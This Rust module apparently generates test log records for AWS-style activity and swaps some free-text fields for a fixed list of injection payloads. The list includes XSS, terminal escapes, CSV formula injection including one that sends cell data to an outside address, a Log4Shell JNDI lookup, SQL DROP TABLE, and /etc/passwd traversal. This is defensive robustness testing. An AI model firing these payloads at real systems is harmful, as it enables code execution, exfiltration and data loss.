//! Hostile texts: what somebody writes into a log who hopes that whoever reads it obeys.

use serde_json::Value;

use super::chance::Chance;
use super::identity::UserIdentity;
use super::record::{Call, Failure, Origin};
use super::services::Exchange;

/// AWS keeps no user agent longer than this many bytes by far; who sends one may hope that it does.
const LONG: usize = 8 * 1_024;

/// How often a free text is hostile, in a thousand.
const HOSTILE_PERMILLE: u32 = 250;

/// Markup, terminal escapes, texts that change direction, spreadsheet formulas, and the rest of the
/// usual injections. OWASP, "CSV Injection", "Cross Site Scripting" and "Log Injection".
const TEXTS: [&str; 18] = [
    "<script>alert(document.domain)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</td></tr></table><h1>owned</h1>",
    "javascript:alert(1)//",
    "[click](javascript:alert(1))",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m",
    "first line\r\nsecond line\ttabbed\u{0}nul\u{8}\u{7f}",
    "\u{9b}31mC1\u{85}next line\u{2028}separator",
    "exe.\u{202e}gpj.nosrep\u{202c}",
    "\u{2066}isolate\u{200b}zero\u{200d}width\u{feff}mark",
    "=HYPERLINK(\"http://203.0.113.7/?\"&A1,\"details\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://203.0.113.7/a}",
    "'; DROP TABLE activity; --",
    "{{7*7}}${7*7}%s%n%x",
    "../../../../etc/passwd",
];

/// A source of hostile texts.
pub(super) struct Hostility(Chance);

/// What a call becomes when its free texts are hostile.
pub(super) struct Spoiled {
    identity: UserIdentity,
    agent: String,
    exchange: Exchange,
    failure: Option<Failure>,
}

impl Hostility {
    /// Chosen by `chance`.
    pub(super) fn new(chance: Chance) -> Self {
        Self(chance)
    }

    /// The free texts of `call`, some of them hostile. Whatever says who called, from where, what and
    /// with which outcome stays, so that counts by these are the same.
    pub(super) fn spoil(&mut self, call: &Call<'_>) -> Spoiled {
        let mut identity = call.identity.clone();
        // Elsewhere the name is part of what identifies the caller.
        if identity.kind == "IAMUser" {
            identity.user_name = identity.user_name.map(|it| self.text(it));
        }
        let mut exchange = call.exchange.clone();
        self.value(&mut exchange.request);
        if let Some(additional) = &mut exchange.additional {
            self.value(additional);
        }
        let failure = call.failure.clone().map(|failure| Failure {
            message: self.text(failure.message),
            ..failure
        });
        Spoiled {
            identity,
            agent: self.agent(call.origin.agent),
            exchange,
            failure,
        }
    }

    /// A hostile text now and then, else `text`.
    pub(super) fn text(&mut self, text: String) -> String {
        if self.0.happens(HOSTILE_PERMILLE) {
            (*self.0.pick(&TEXTS)).to_owned()
        } else {
            text
        }
    }

    fn agent(&mut self, agent: &str) -> String {
        let agent = self.text(agent.to_owned());
        // One in ten is very long besides.
        if self.0.happens(HOSTILE_PERMILLE / 10) {
            let filler = "A\u{202e}\u{1b}[1m".chars().cycle();
            agent.chars().chain(filler).take(LONG).collect()
        } else {
            agent
        }
    }

    fn value(&mut self, value: &mut Value) {
        match value {
            Value::String(text) => *text = self.text(std::mem::take(text)),
            Value::Array(elements) => elements.iter_mut().for_each(|it| self.value(it)),
            Value::Object(members) => members.values_mut().for_each(|it| self.value(it)),
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
}

impl Spoiled {
    /// `call` with these texts.
    pub(super) fn call<'a>(&'a self, call: Call<'a>) -> Call<'a> {
        Call {
            identity: &self.identity,
            origin: Origin {
                agent: &self.agent,
                ..call.origin
            },
            exchange: self.exchange.clone(),
            failure: self.failure.clone(),
            ..call
        }
    }
}
